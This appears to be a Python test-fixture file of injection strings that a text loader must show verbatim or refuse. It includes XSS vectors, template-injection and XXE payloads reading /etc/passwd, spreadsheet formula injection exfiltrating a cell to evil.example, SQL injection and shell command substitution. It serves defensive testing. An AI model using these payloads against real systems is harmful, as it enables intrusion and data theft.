"""Texts that try to become more than text: each must be shown as typed, or be refused by the loader.

Whatever of them can run calls `canary()`; whatever can ask for something asks evil.example.
"""

from __future__ import annotations

SHOWN = r"""
<script>canary()</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script src=data:,canary()></script>
</script><script>canary()</script>
</title><script>canary()</script>
</textarea><script>canary()</script>
</style><script>canary()</script>
</noscript><script>canary()</script>
</template><script>canary()</script>
--><script>canary()</script>
<!--<script>-->canary()<!--</script>-->
<![CDATA[<script>canary()</script>]]>
]]><script>canary()</script>
<scr<script>ipt>canary()</scr</script>ipt>
<script>canary()//
<script/x>canary()</script/x>
<script type=module>canary()</script>
<script type="application/ld+json">{"x": 1}</script>
<img src=x onerror=canary()>
<img src=x onerror="canary()"
<img/src/onerror=canary()>
<img src="https://evil.example/x.png">
<img srcset="https://evil.example/x.png 2x">
<image href=https://evil.example/x.png>
<picture><source srcset=https://evil.example/x.png></picture>
<svg onload=canary()>
<svg><script>canary()</script></svg>
<svg><script href=data:,canary() /></svg>
<svg><a xlink:href="javascript:canary()"><text y=9>x</text></a></svg>
<svg><animate onbegin=canary() attributeName=x dur=1s>
<svg><use href="https://evil.example/x.svg#a"/></svg>
<svg><style>*{background:url(https://evil.example/x)}</style></svg>
<svg><foreignObject><iframe srcdoc="<script>canary()</script>"></iframe></foreignObject></svg>
<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=canary()></style></mtext></svg></mglyph></math>
<iframe src=javascript:canary()></iframe>
<iframe src=https://evil.example/></iframe>
<iframe srcdoc="<script>parent.canary()</script>"></iframe>
<object data=https://evil.example/x></object>
<object data="javascript:canary()"></object>
<embed src=https://evil.example/x>
<embed src=javascript:canary()>
<video src=x onerror=canary()></video>
<video poster=https://evil.example/x></video>
<audio src=https://evil.example/x autoplay></audio>
<body onload=canary()>
<html onclick=canary()>
<base href=https://evil.example/>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=prefetch href=https://evil.example/x>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<style>@import url(https://evil.example/x.css);</style>
<style>*{display:none}</style>
<form action=https://evil.example/><input type=submit></form>
<input autofocus onfocus=canary()>
<button formaction=javascript:canary()>x</button>
<isindex action=javascript:canary() type=image>
<textarea autofocus onfocus=canary()></textarea>
<select autofocus onfocus=canary()></select>
<details open ontoggle=canary()>x</details>
<marquee onstart=canary()>x</marquee>
<div onmouseover=canary()>x</div>
<div style="background:url(https://evil.example/x)">x</div>
<div style="position:fixed;inset:0;z-index:99999">x</div>
<p hidden>x</p>
<a href=javascript:canary()>x</a>
<a href="java&Tab;script:canary()">x</a>
<a href="&#106;avascript:canary()">x</a>
<a href=https://evil.example/ ping=https://evil.example/p>x</a>
<table background=https://evil.example/x>
<plaintext>
<xmp><script>canary()</script></xmp>
<noembed><script>canary()</script></noembed>
<template><script>canary()</script></template>
<dialog open>x</dialog>
<slot onslotchange=canary()>x</slot>
<portal src=https://evil.example/></portal>
<x onclick=canary() tabindex=1 autofocus onfocus=canary()>x</x>
"><script>canary()</script>
'><script>canary()</script>
" onmouseover="canary()
' onmouseover='canary()
" autofocus onfocus=canary() x="
`onmouseover=canary()`
\"><script>canary()</script>
\u003cscript\u003ecanary()\u003c/script\u003e
\x3cscript\x3ecanary()\x3c/script\x3e
&lt;script&gt;canary()&lt;/script&gt;
&#60;script&#62;canary()&#60;/script&#62;
&#x3c;script&#x3e;canary()&#x3c;/script&#x3e;
&amp;lt;script&amp;gt;
&nbsp;&copy;&#0;&bogus;
%3Cscript%3Ecanary()%3C/script%3E
+ADw-script+AD4-canary()+ADw-/script+AD4-
"}</script><script>canary()</script>{"x":"
","@type":"Person","x":"
"};canary();//
';canary();//
${canary()}
`;canary();`
javascript:canary()
JaVaScRiPt:canary()
javascript&colon;canary()
data:text/html,<script>canary()</script>
data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==
vbscript:canary()
file:///etc/passwd
//evil.example/x
https://evil.example/x
<https://evil.example/x>
<javascript:canary()>
<mailto:a@evil.example>
a@evil.example
www.evil.example
[x](javascript:canary())
[x](<javascript:canary()>)
[x](java&#115;cript:canary())
[x](https://evil.example/ "title")
[x][y]
[y]: javascript:canary()
[y]: https://evil.example/ (x)
![x](https://evil.example/x.png)
![x](x "onerror=canary()")
[![x](https://evil.example/x.png)](javascript:canary())
[^1]
[^1]: footnote
*[HTML]: canary
[[wiki]]
[TOC]
[](){: onclick=canary() }
**bold** *em* ___both___ ~~del~~ ^^ins^^ ==mark==
`code` ``co`de``
``` js canary()
~~~ {.js onload=canary()}
# heading
###### heading {: onclick=canary() }
=====
-----
***
> quote
- item
+ item
1. item
1) item
- [ ] task
: definition
| a | b |
|---|---|
a | b
{: onclick=canary() }
{: .x #id onclick=canary() style="x" }
{ onclick=canary() }
{#id .class key=value}
text {: src=https://evil.example/x }
!!! danger "canary"
??? note
=== "tab"
/// admonition | x
::: generator.cli
--8<-- "/etc/passwd"
;--8<-- "mkdocs.yml"
-8<- "x"
{! /etc/passwd !}
{% include "/etc/passwd" %}
{% raw %}{% endraw %}
{{ page }}
{{ config.__class__.__init__.__globals__ }}
{{ 7*7 }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{# comment #}
#{7*7}
<%= 7*7 %>
<?php system('id') ?>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
<!DOCTYPE html>
&e;
%e;
<xsl:value-of select="x"/>
:smile: :material-account: :fontawesome-brands-x:
++ctrl+c++
$$x$$ \(x\) \[x\]
\\ \* \_ \` \{ \[ \< \#
klzzwxh:0000
wzxhzdk:0wzxhzdk:1
=HYPERLINK("https://evil.example/?"&A1,"x")
=cmd|' /C calc'!A0
+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
=IMPORTXML("https://evil.example/","//a")
"=1+1"
'=1+1
a,"b";c
a;b,c|d
BEGIN:VEVENT\nSUMMARY:x
\nATTACH:https://evil.example/x\n
x\r\nBEGIN:VALARM
END:VCALENDAR
ATTENDEE;CN="x":mailto:a@evil.example
TY  - JOUR
ER  -
@article{x, title={y}}
}, url = {javascript:canary()}, x = {
\input{/etc/passwd} \write18{id}
'; DROP TABLE facts; --
" OR ""="
Robert'); DELETE FROM leaders;--
$(id) `id` ; id | id && id
%n%s%x %(x)s {0} {x} {x.__class__}
../../../etc/passwd
..\..\windows\win.ini
C:\CON\NUL
null
true
-0
1e999
__proto__
constructor
[object Object]
undefined
NaN
ﷺ北约НАТОناتو
𝕊𝕦𝕞𝕞𝕚𝕥 🕊 👨‍👩‍👧
Ｓｕｍｍｉｔ＜script＞canary()＜/script＞
Z̴̧a̷l̶g̸o̵
""".strip("\n").split("\n")  # fmt: skip
SHOWN = [one.replace("\u200d", "") for one in SHOWN]  # joiners are refused, see below
"""Texts of which the reader sees every character."""

REFUSED = [
    "a\nb", "a\r\nb", "a\tb", "a\x00b", "a\x08b", "a\x1b[31mb", "a\x7fb", "a\x85b", "a\u00a0b", "a\u00adb", "a\u200bb",
    "a\u200db", "a\u200fb", "a\u2028b", "a\u2029b", "a\u202eb", "a\u2066b", "a\u2069b", "a\u2060b", "a\ufeffb",
    "a\ufffdb", "a\U000e0041b", " a", "a ", "", " ",
]  # fmt: skip
"""Texts that no record can hold: more than one line, or with characters that nobody sees."""

REFUSED_ADDRESSES = [
    "javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd",
    "//evil.example", "/etc/passwd", "http:evil.example", "https:/evil.example", "https://", "https:// evil.example", "ftp://evil.example/",
    "https://evil.example/\"onclick=x", "https://evil.example/'x", "https://evil.example/<x>", "https://evil.example/`x`",
    "https://evil.example/{x}", "https://evil.example/ x", "https://user@evil.example/", "https://evil.example/\nx",
    "https://evil.example/\\x", " https://evil.example/", "blob:https://evil.example/x", "about:blank",
]  # fmt: skip
"""What no record can have for an address."""
